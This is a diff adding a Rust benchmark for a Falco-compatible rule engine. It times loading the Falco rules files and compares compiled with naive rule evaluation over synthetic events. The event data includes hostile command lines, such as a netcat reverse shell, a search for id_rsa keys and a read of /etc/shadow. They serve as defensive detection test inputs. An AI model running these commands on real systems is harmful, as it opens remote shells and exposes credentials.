@@ -1,0 +1,177 @@
+//! Loader benchmarks: load + compile of Falco's three maintained rules files (target < 20 ms),
+//! and evaluation of the compiled stable rules over a synthetic mix of opens, execs and
+//! connects, next to `peregrine_filter::naive::eval` of the same resolved conditions on the
+//! same events (target ≥ 5× faster). Both use the per-type index, so the comparison is the
+//! filter engine alone.
+
+use criterion::{criterion_group, criterion_main, Criterion, Throughput};
+use peregrine_filter::testing::SyntheticEvent;
+use peregrine_filter::FieldSource;
+use peregrine_rules::{Loader, Matching, RuleSet, Scratch};
+use std::hint::black_box;
+use std::path::PathBuf;
+
+fn upstream() -> PathBuf {
+    match std::env::var_os("PEREGRINE_UPSTREAM") {
+        Some(p) => PathBuf::from(p),
+        None => PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/upstream"),
+    }
+}
+
+const FILES: [&str; 3] = [
+    "rules/falco_rules.yaml",
+    "rules/falco-incubating_rules.yaml",
+    "rules/falco-sandbox_rules.yaml",
+];
+
+fn contents() -> Vec<(String, String)> {
+    FILES
+        .iter()
+        .map(|f| {
+            let p = upstream().join(f);
+            let text = std::fs::read_to_string(&p).unwrap_or_default();
+            (p.display().to_string(), text)
+        })
+        .collect()
+}
+
+fn bench_load(c: &mut Criterion) {
+    let files = contents();
+    // Falco's way: every content is validated by compiling all collected so far.
+    c.bench_function("load_three_files_compile_each", |b| {
+        b.iter(|| {
+            let mut l = Loader::new();
+            for (name, text) in &files {
+                l.load_str(name, text);
+            }
+            l.finish()
+        })
+    });
+    c.bench_function("load_three_files_compile_once", |b| {
+        b.iter(|| {
+            let mut l = Loader::compile_once();
+            for (name, text) in &files {
+                l.load_str(name, text);
+            }
+            l.finish()
+        })
+    });
+}
+
+/// A realistic mix: mostly benign opens and execs, some connects, a few events that match.
+fn event_mix() -> Vec<SyntheticEvent> {
+    let mut evs = Vec::new();
+    let files = [
+        "/etc/ld.so.cache",
+        "/usr/lib/x86_64-linux-gnu/libc.so.6",
+        "/proc/self/status",
+        "/etc/shadow",
+        "/home/user/.bashrc",
+        "/var/log/syslog",
+        "/tmp/build/obj.o",
+        "/dev/null",
+    ];
+    for (i, f) in files.iter().enumerate() {
+        evs.push(
+            SyntheticEvent::new(if i % 2 == 0 { "openat" } else { "open" })
+                .with("fd.name", *f)
+                .with("fd.directory", f.rsplit_once('/').map_or("/", |(d, _)| d))
+                .with("fd.typechar", "f")
+                .with("fd.num", 3i64)
+                .with("evt.is_open_read", true)
+                .with("evt.is_open_write", i % 3 == 0)
+                .with("evt.rawres", 3i64)
+                .with("proc.name", if i % 4 == 0 { "cat" } else { "python3" })
+                .with("proc.pname", "bash")
+                .with("proc.cmdline", "cat /etc/shadow")
+                .with("proc.exe", "/usr/bin/cat")
+                .with("container.id", "host")
+                .with("user.name", "root"),
+        );
+    }
+    let execs = [
+        ("bash", "sshd", "bash -i"),
+        ("ls", "bash", "ls -la"),
+        ("nc", "bash", "nc -e /bin/sh 10.0.0.1 4444"),
+        ("find", "bash", "find / -name id_rsa"),
+        ("gcc", "make", "gcc -c x.c"),
+        ("sh", "runc", "sh -c true"),
+    ];
+    for (name, parent, cmdline) in execs {
+        evs.push(
+            SyntheticEvent::new("execve")
+                .with("proc.name", name)
+                .with("proc.pname", parent)
+                .with("proc.cmdline", cmdline)
+                .with("proc.exe", format!("/usr/bin/{name}").as_str())
+                .with("proc.args", cmdline.split_once(' ').map_or("", |(_, a)| a))
+                .with("proc.tty", 34816i64)
+                .with(
+                    "container.id",
+                    if name == "sh" { "3ad7b26ded6d" } else { "host" },
+                )
+                .with("user.name", "root")
+                .with("evt.rawres", 0i64),
+        );
+    }
+    for (ip, port) in [("10.1.2.3", 443u64), ("8.8.8.8", 53), ("127.0.0.1", 6443)] {
+        evs.push(
+            SyntheticEvent::new("connect")
+                .with("fd.typechar", "4")
+                .with("fd.sip", ip)
+                .with("fd.sport", port)
+                .with("fd.name", format!("172.17.0.2:40000->{ip}:{port}").as_str())
+                .with("fd.l4proto", "tcp")
+                .with("evt.rawres", 0i64)
+                .with("proc.name", "curl")
+                .with("container.id", "3ad7b26ded6d"),
+        );
+    }
+    evs
+}
+
+fn stable() -> RuleSet {
+    let mut l = Loader::new();
+    let (name, text) = &contents()[0];
+    l.load_str(name, text);
+    l.finish().0
+}
+
+fn bench_eval(c: &mut Criterion) {
+    let set = stable();
+    let mut events = event_mix();
+    let mut g = c.benchmark_group("evaluate_stable_rules");
+    g.throughput(Throughput::Elements(events.len() as u64));
+    let mut scratch = Scratch::new();
+    let mut out = Vec::new();
+    g.bench_function("compiled", |b| {
+        b.iter(|| {
+            let mut n = 0;
+            for ev in events.iter_mut() {
+                set.evaluate(ev, Matching::All, &mut scratch, &mut out);
+                n += out.len();
+            }
+            black_box(n)
+        })
+    });
+    g.bench_function("naive", |b| {
+        b.iter(|| {
+            let mut n = 0;
+            for ev in events.iter_mut() {
+                let t = ev.event_type();
+                for &i in set.rules_for(t) {
+                    if let Some(r) = set.rule(i) {
+                        if peregrine_filter::naive::eval(&r.condition, ev) {
+                            n += 1;
+                        }
+                    }
+                }
+            }
+            black_box(n)
+        })
+    });
+    g.finish();
+}
+
+criterion_group!(benches, bench_load, bench_eval);
+criterion_main!(benches);
